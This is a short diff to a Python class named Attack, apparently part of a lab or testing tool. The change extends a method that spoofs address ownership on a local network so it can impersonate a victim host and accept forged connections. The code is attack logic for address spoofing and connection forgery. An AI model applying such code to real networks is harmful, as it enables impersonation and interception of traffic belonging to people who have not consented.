@@ -90,7 +90,9 @@ class Attack:
     def forged_accept(self):
         """Connects to a port on which the victim listens, as the other end that the proof looks for, and asks as victim:port."""
         port, forged = self.order["victimPort"], tuple(self.order["as"])
-        self.wire.claim(self.host, self.mac, self.victim, self.victim_mac)
+        # The victim answers to its gateway, or to that very address where it is on its network.
+        for address in {self.host, forged[0]}:
+            self.wire.claim(address, self.mac, self.victim, self.victim_mac)
         self.be_victim()
         while not self.over():
             accepted = self.between(forged, (self.victim, port), self.victim_mac)
